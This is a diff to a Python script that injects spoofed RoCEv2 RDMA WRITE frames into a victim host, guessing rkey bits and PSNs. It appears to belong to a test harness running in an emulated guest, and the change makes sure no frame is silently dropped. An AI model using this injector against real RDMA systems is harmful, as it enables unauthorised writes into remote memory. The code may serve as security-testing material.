@@ -7,18 +7,27 @@ JSON: victim_ip, victim_mac, peer_ip, qpn, rkey, addr, count. The attacker knows
 and the index part of its rkey (the low 8 bits, the key variant, and the PSN are guessed). Half
 the frames come from the attacker's own address, half spoof the genuine peer's IP. Frames are
 well formed (IPv4 checksum, ICRC), so the victim judges them on their merits. Prints how many it
-sent from each source."""
+sent from each source.
 
+The frames skip the interface's qdisc (PACKET_QDISC_BYPASS): the guest kernel's default fq_codel
+drops frames that wait too long under a slow (TCG) virtio-net, and the sender is not told. Past
+the qdisc a full transmit ring makes send() fail with ENOBUFS, and the frame is sent again, so
+every frame counted as sent left the guest."""
+
+import errno
 import json
 import random
 import socket
 import struct
 import sys
+import time
 import zlib
 
 ROCE_PORT = 4791
 RC_RDMA_WRITE_ONLY = 0x0A
 PAYLOAD = b"\xee" * 64
+SOL_PACKET = 263
+PACKET_QDISC_BYPASS = 20
 
 
 def ip_checksum(h):
@@ -67,6 +76,8 @@ def main(iface, spec):
     dst_mac = mac_bytes(p["victim_mac"])
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     s.bind((iface, 0))
+    s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
+    retries = 0
     sent = {"own": 0, "spoofed": 0}
     for i in range(p["count"]):
         spoof = i % 2 == 1
@@ -74,9 +85,18 @@ def main(iface, spec):
         psn = random.getrandbits(24)
         f = frame(own_mac, dst_mac, p["peer_ip"] if spoof else own_ip, p["victim_ip"],
                   p["qpn"], psn, p["addr"] + random.randrange(0, 65536 - 64), rkey)
-        s.send(f)
+        while True:
+            try:
+                s.send(f)
+                break
+            except OSError as e:
+                if e.errno not in (errno.ENOBUFS, errno.EAGAIN) or retries > 100000:
+                    raise
+                retries += 1
+                time.sleep(0.001)
         sent["spoofed" if spoof else "own"] += 1
-    print("sent own=%d spoofed=%d" % (sent["own"], sent["spoofed"]), flush=True)
+    print("sent own=%d spoofed=%d (%d sends retried on a full ring)"
+          % (sent["own"], sent["spoofed"], retries), flush=True)
 
 
 if __name__ == "__main__":
